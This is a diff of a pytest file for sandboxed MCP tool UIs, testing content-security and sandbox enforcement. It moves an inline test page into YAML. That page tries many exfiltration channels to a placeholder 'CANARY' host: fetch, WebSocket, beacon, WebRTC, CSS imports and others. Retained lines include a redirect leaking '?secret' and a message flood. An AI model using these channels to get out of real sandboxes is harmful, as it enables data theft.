@@ -6,8 +6,10 @@ import json
 import select
 import socket
 import threading
+from pathlib import Path
 
 import pytest
+import yaml
 
 from support.artifact import build
 from support.files import write_files
@@ -16,103 +18,12 @@ from support.serving import served
 
 REFUSED = ("Content Security Policy", "Failed to load", "ERR_", "Blocked", "net::", "violates", "Refused")
 
-APP = """<!doctype html><title>app</title><p id=out>waiting</p><script>
-let id = 0;
-const pending = new Map();
-const send = (method, params) => new Promise((done) => {
-  id += 1;
-  pending.set(id, done);
-  parent.postMessage({ jsonrpc: "2.0", id, method, params }, "*");
-});
-const out = document.getElementById("out");
-addEventListener("message", async ({ data }) => {
-  if (pending.has(data.id)) pending.get(data.id)(data.result ?? data.error);
-  if (data.method === "ui/notifications/tool-result") {
-    const again = await send("tools/call", { name: "helper", arguments: { text: "by the app" } });
-    const denied = await send("tools/call", { name: "private", arguments: {} });
-    out.textContent = [data.params.content[0].text, again.content[0].text, denied.message, await attempts()].join("|");
-    parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/size-changed", params: { height: 77 } }, "*");
-    await send("ui/open-link", { url: "https://example.invalid/" });
-    out.textContent += "|refused";
-    const read = await Promise.all(["ui://apps/flood", "ui://apps/leaves"].map((uri) => send("resources/read", { uri })));
-    const listed = await send("resources/list", {});
-    out.textContent += `|${[...read, listed].map((answer) => answer.message ?? "read").join("|")}`;
-  }
-});
-async function attempts() {
-  const tried = [];
-  const attempt = async (name, run) => tried.push(`${name} ${await run().then(() => "WENT OUT", () => "stays")}`);
-  await attempt("fetch", () => fetch("http://CANARY/", { mode: "no-cors" }));
-  await attempt("own", () => fetch("/mcp", { method: "POST", mode: "no-cors" }));
-  await attempt("image", () => new Promise((y, n) => { const i = new Image(); i.onload = y; i.onerror = n; i.src = "http://CANARY/x.png"; }));
-  await attempt("storage", async () => localStorage.setItem("a", "b"));
-  await attempt("parent", async () => parent.document.body.textContent);
-  await attempt("socket", () => new Promise((y, n) => { const s = new WebSocket("ws://CANARY/"); s.onopen = y; s.onerror = n; }));
-  const appended = (tag, rows) => async () => { const e = document.createElement(tag); Object.assign(e, rows); document.body.append(e); throw 0; };
-  for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "stylesheet", "icon", "manifest"]) {
-    await attempt(rel, appended("link", { rel, href: "https://CANARY/", as: "script" }));
-  }
-  await attempt("object", appended("object", { data: "https://CANARY/" }));
-  await attempt("embed", appended("embed", { src: "https://CANARY/" }));
-  await attempt("style", appended("style", { textContent: "@import url(https://CANARY/); @font-face { font-family: x; src: url(https://CANARY/f) } body { font-family: x; background: url(https://CANARY/b) }" }));
-  await attempt("beacon", async () => { navigator.sendBeacon("http://CANARY/", "x"); throw 0; });
-  await attempt("form", async () => { const f = document.createElement("form"); f.action = "http://CANARY/"; document.body.append(f); f.submit(); throw 0; });
-  await attempt("events", () => new Promise((y, n) => { const s = new EventSource("http://CANARY/"); s.onopen = y; s.onerror = n; }));
-  await attempt("transport", () => new WebTransport("https://CANARY/").ready);
-  await attempt("worker", async () => { new Worker(URL.createObjectURL(new Blob(["fetch('http://CANARY/', { mode: 'no-cors' })"]))); throw 0; });
-  const talk = async (Peer) => { const p = new Peer({ iceServers: [{ urls: "stun:CANARY" }] }); p.createDataChannel("d"); await p.setLocalDescription(await p.createOffer()); };
-  await attempt("peer", () => talk(window.RTCPeerConnection ?? window.webkitRTCPeerConnection));
-  await attempt("peer of a frame", async () => { const f = document.createElement("iframe"); document.body.append(f); await talk(f.contentWindow.RTCPeerConnection); });
-  await attempt("open", async () => { if (!window.open("http://CANARY/")) throw 0; });
-  return tried.join(",");
-}
-send("ui/initialize", { protocolVersion: "2026-01-26", appInfo: {}, appCapabilities: {} }).then((found) => {
-  if (found.hostContext.toolInfo.tool.name !== "shows") return;
-  parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/initialized" }, "*");
-});
-</script>"""
+DATA = yaml.safe_load(Path(__file__).with_name("page_app.yaml").read_text("utf-8"))
+APP = DATA["APP"]
 FLOOD = "<script>setInterval(() => { for (let i = 0; i < 300; i++) parent.postMessage({ jsonrpc: '2.0', method: 'x' }, '*'); }, 10);</script>"
 LEAVES = "<script>setTimeout(() => { location.href = 'http://CANARY/?secret'; }, 50);</script>flees"
 RELOADS = "<script>setTimeout(() => { location.href = '/healthz'; }, 50);</script>"
-TOOLS = '''
-from mcpc import tool
-
-
-@tool(meta={"ui": {"resourceUri": "ui://apps/app"}})
-def shows() -> str:
-    """Show the App."""
-    return "shown"
-
-
-@tool(meta={"ui": {"resourceUri": "ui://apps/flood"}})
-def floods() -> str:
-    """Show an App that sends without end."""
-    return "shown"
-
-
-@tool(meta={"ui": {"resourceUri": "ui://apps/leaves"}})
-def leaves() -> str:
-    """Show an App that goes elsewhere."""
-    return "shown"
-
-
-@tool(meta={"ui": {"resourceUri": "ui://apps/reloads"}})
-def reloads() -> str:
-    """Show an App that goes to another document of the server."""
-    return "shown"
-
-
-@tool(meta={"ui": {"visibility": ["app"]}})
-def helper(text: str) -> str:
-    """Help the App."""
-    return text
-
-
-@tool(meta={"ui": {"visibility": ["model"]}})
-def private() -> str:
-    """Not for Apps."""
-    return "private"
-'''
+TOOLS = DATA["TOOLS"]
 
 
 class Elsewhere:
